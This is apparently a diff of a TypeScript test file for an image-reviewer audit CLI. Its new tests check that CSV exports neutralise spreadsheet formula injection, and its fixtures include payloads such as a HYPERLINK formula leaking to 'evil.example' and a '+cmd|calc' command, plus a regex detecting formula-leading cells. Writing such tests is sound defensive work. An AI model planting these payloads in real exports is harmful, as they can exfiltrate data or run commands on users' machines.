@@ -1,8 +1,11 @@
 import Database from 'better-sqlite3';
+import type { ReasonCode } from '../../src/core/types';
 import { createInlineAuditWriter } from '../../src/store/audit-inline-committer';
 import { openStore } from '../../src/store/open-database';
 import { DIGEST_B, decisionRecord, deniedRecord } from '../helpers/decision-record';
+import { postImageReview } from '../helpers/post-image-review';
 import { runCli } from '../helpers/run-cli';
+import { startServeInProcess } from '../helpers/serve-in-process';
 import { type TempDir, makeTempDir } from '../helpers/temp-dir';
 
 const HOUR = 3_600_000;
@@ -98,6 +101,41 @@ describe('image-reviewer audit', () => {
     ]);
   });
 
+  it('neutralises CSV cells a spreadsheet would run as a formula: image strings and tickets (OWASP CSV injection)', async () => {
+    const db = openStore(dbFile, { migrate: 'apply' });
+    try {
+      const reasons: readonly ReasonCode[] = ['invalid-reference'];
+      const image = { image: '=HYPERLINK("http://x","y")', repository: null, digest: null, allowed: false, reasons };
+      await createInlineAuditWriter(db, {}, { writer: 'reviewer-0', cluster: null }).append(
+        deniedRecord({ time: now - 60_000, breakGlass: true, ticket: '@SUM(1+1)', reason: '-2+3', images: [image] }),
+      );
+    } finally {
+      db.close();
+    }
+    const r = await cli('audit', '--csv', '--limit', '1');
+    expect(r).toMatchObject({ code: 0, stderr: '' });
+    expect(r.stdout.trimEnd().split('\r\n')[1]).toBe(
+      `4,${new Date(now - 60_000).toISOString()},prod,false,enforce,true,'@SUM(1+1),invalid-reference,` +
+        `"'=HYPERLINK(""http://x"",""y"")",'-2+3,${'f'.repeat(64)},,250,,reviewer-0,`,
+    );
+  });
+
+  it('neutralises a formula a pod author put in an image, from the review to audit --csv', async () => {
+    const server = await startServeInProcess(['--db', dbFile, 'serve', '--listen', '127.0.0.1:0']);
+    try {
+      const answer = await postImageReview(server.baseUrl, ['=HYPERLINK("http://evil.example/?leak","click")', '+cmd|calc'], 'attack');
+      expect(answer).toMatchObject({ status: 200, allowed: false });
+    } finally {
+      await server.stop();
+    }
+    const r = await cli('audit', '--csv', '--namespace', 'attack');
+    expect(r).toMatchObject({ code: 0, stderr: '' });
+    const cells = r.stdout.trimEnd().split('\r\n')[1];
+    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?leak"",""click"") +cmd|calc",`);
+    // No cell of the row starts a formula: each is quoted text, or starts with a harmless character.
+    expect(cells?.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).filter((cell) => /^"?[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
   it.each<[string[], number[]]>([
     [['--decision', 'denied'], [2]],
     [['--decision', 'allowed'], [3, 1]],
@@ -139,6 +177,8 @@ describe('image-reviewer audit', () => {
     expect(json).toMatchObject({ code: 0, stderr: '' });
     expect(JSON.parse(json.stdout)).toEqual({
       since: expect.stringMatching(/Z$/),
+      until: null,
+      namespace: null,
       total: 2,
       allowed: 1,
       denied: 1,
@@ -156,6 +196,37 @@ describe('image-reviewer audit', () => {
     expect(await cli('audit', 'stats', '--since', 'soon')).toMatchObject({ code: 2, stdout: '' });
   });
 
+  it('counts within --since and --until, in one --namespace, as CSV with --csv', async () => {
+    const r = await cli('audit', 'stats', '--since', '4h', '--until', '1h', '--namespace', 'prod', '--csv');
+    expect(r).toMatchObject({ code: 0, stderr: '' });
+    expect(r.stdout.trimEnd().split('\r\n')).toEqual([
+      'dimension,value,decisions,allowed,denied',
+      'total,,1,1,0',
+      'break-glass,,0,,',
+      'mode,enforce,1,,',
+      'namespace,prod,1,1,0',
+    ]);
+    const table = await cli('audit', 'stats', '--namespace', 'dev', '--until', '1h');
+    expect(table.stdout).toMatch(/^decisions in namespace dev until \S+Z\n\nDECISIONS\s+ALLOWED\s+DENIED\s+BREAK-GLASS\n1\s+0\s+1\s+0\n/);
+    expect(JSON.parse((await cli('audit', 'stats', '--json', '--until', '1h')).stdout)).toMatchObject({
+      since: null,
+      until: expect.stringMatching(/Z$/),
+      total: 2,
+    });
+  });
+
+  it.each([
+    [['stats', '--limit', '5'], 'error: audit stats does not take --limit (it takes --since, --until, --namespace, --json, --csv)\n'],
+    [['stats', '--image', 'x*', '--break-glass'], 'error: audit stats does not take --image, --break-glass (it takes --since, --until, --namespace, --json, --csv)\n'],
+    [['stats', '--decision', 'denied'], 'error: audit stats does not take --decision (it takes --since, --until, --namespace, --json, --csv)\n'],
+    [['stats', '--json', '--csv'], 'error: --json and --csv cannot be combined\n'],
+    [['verify', '--namespace', 'prod'], "error: audit verify takes none of audit's filters or formats (got --namespace): it checks the whole store\n"],
+    [['--until', '1h', 'verify', '--csv'], "error: audit verify takes none of audit's filters or formats (got --until, --csv): it checks the whole store\n"],
+    [['verify', '--limit', '1'], "error: audit verify takes none of audit's filters or formats (got --limit): it checks the whole store\n"],
+  ])('refuses audit %j with exit 2 and one line, instead of ignoring a flag', async (args, stderr) => {
+    expect(await cli('audit', ...args)).toEqual({ code: 2, stdout: '', stderr });
+  });
+
   it('names an edited reason index, which the hash chain itself does not cover, and passes once it is repaired', async () => {
     const db = new Database(dbFile);
     const row = db
@@ -166,7 +237,7 @@ describe('image-reviewer audit', () => {
       code: 1,
       stdout: '',
       stderr:
-        `audit index edited at decision ${row.decision_id}: its reason 'scan-missing' is missing from decision_reasons ` +
+        `error: audit index edited at decision ${row.decision_id}: its reason 'scan-missing' is missing from decision_reasons ` +
         '(audit --reason would not find it)\n',
     });
     db.prepare('INSERT INTO decision_reasons (reason, time, decision_id) VALUES (?, ?, ?)').run(row.reason, row.time, row.decision_id);
@@ -183,7 +254,7 @@ describe('image-reviewer audit', () => {
       code: 1,
       stdout: '',
       stderr:
-        'audit chain broken at decision 2: its hash does not match its contents ' +
+        'error: audit chain broken at decision 2: its hash does not match its contents ' +
         '(the decision, its images or its policy were edited)\n',
     });
   });
